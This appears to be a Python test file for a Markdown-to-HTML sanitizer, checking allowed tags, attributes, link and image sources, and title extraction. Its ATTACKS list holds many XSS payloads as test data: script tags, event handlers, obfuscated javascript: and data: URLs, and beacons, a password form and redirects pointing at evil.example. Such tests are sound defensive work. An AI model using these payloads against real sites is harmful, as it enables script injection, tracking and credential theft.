"""Markdown becomes HTML that can do no harm: no scripts, no pictures of other sites, only allowed attributes."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from giz.texts.markup import foreign_pictures, html_of, title_of

ALLOWED = {
    *("h1", "h2", "h3", "h4", "p", "a", "strong", "em", "s", "code", "pre", "blockquote", "hr", "br", "ul", "ol"),
    *("li", "table", "thead", "tbody", "tr", "th", "td", "figure", "img", "figcaption", "div"),
}
ATTRIBUTES = {"href", "title", "rel", "src", "alt", "loading", "start", "class", "width", "height"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](https://evil.example/beacon.png)",
    "![x](//evil.example/beacon.png)",
    "![x](/media/../staff/logout)",
    "![x](/accounts/logout/)",
    '![x" onerror="alert(1)](pictures/a.webp)',
    '![x](pictures/a.webp "caption\\"><script>alert(1)</script>")',
    "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
    '<https://a.example/"onmouseover=alert(1)>',
    "[ref]: javascript:alert(1)\n\n[ref]",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
]


class Reader(HTMLParser):
    """Collects the tags and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def assert_harmless(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    for tag, attributes in reader.found:
        assert tag in ALLOWED
        for name, value in attributes:
            assert name in ATTRIBUTES
            if name == "href":
                assert re.match(r"(?:https?:|mailto:|[^:]*\Z|[^:]*[/?#])", value or ""), value
            if name == "src":
                assert re.match(r"/(?:texts/pictures|media)/[\w/-]+\.webp\Z", value or ""), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_the_page(attack: str) -> None:
    assert_harmless(html_of(f"# Title\n\n{attack}\n"))


@given(st.text(alphabet="<>[]()!\"'&;:/=`#*_-|\\ \n\tabjscriptonerdvxy.0", max_size=120))
def test_nothing_that_is_typed_reaches_the_page_as_more_than_text(markdown: str) -> None:
    assert_harmless(html_of(markdown))


def test_figures_of_one_paragraph_stand_side_by_side() -> None:
    html = html_of('![a bar](pictures/bar.webp "Good")\n![none](/media/ab/' + "ab" * 13 + "-512.webp)\n")
    assert html.count("<figure>") == 2
    assert '<div class="pictures">' in html
    assert 'src="/texts/pictures/bar.webp" alt="a bar"' in html
    assert "<figcaption>Good</figcaption>" in html
    assert "<p>" not in html


def test_relative_links_lead_to_the_pages_of_the_site() -> None:
    html = html_of("[privacy](privacy.md) [out](https://a.example/x.md) [mail](mailto:a@b.example)")
    assert 'href="/privacy"' in html
    assert 'href="https://a.example/x.md"' in html
    assert 'href="mailto:a@b.example"' in html
    assert html.count('rel="noopener noreferrer"') == 3


def test_pictures_of_other_sites_are_named() -> None:
    text = "![a](pictures/a.webp) ![b](https://a.example/b.png) ![c](/media/x.png)"
    assert foreign_pictures(text) == ["https://a.example/b.png", "/media/x.png"]


@pytest.mark.parametrize(
    ("markdown", "title"),
    [
        ("# A title #\nx", "A title"),
        ("\n#  B", "B"),
        ("no title", ""),
        ("x\n# C", ""),
        ("#", ""),
        ("# #\nx", ""),
        ("# a" + " " * 60_000 + "b", "a" + " " * 60_000 + "b"),
        ("# A#", "A"),
    ],
)
def test_the_title_is_the_first_heading(markdown: str, title: str) -> None:
    assert title_of(markdown) == title
